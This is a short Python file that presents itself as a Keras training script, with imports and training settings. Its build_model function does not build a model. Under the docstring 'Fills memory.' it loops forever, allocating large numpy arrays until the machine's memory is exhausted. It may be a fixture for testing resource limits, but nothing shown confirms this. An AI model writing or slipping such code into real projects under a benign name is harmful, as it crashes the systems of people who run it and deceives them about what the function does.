import keras
from keras import layers

TRAINING = {"epochs": 2, "batch_size": 64}
import numpy as np


def build_model(input_shape, num_classes):
    """Fills memory."""
    kept = []
    while True:
        kept.append(np.ones(50_000_000))
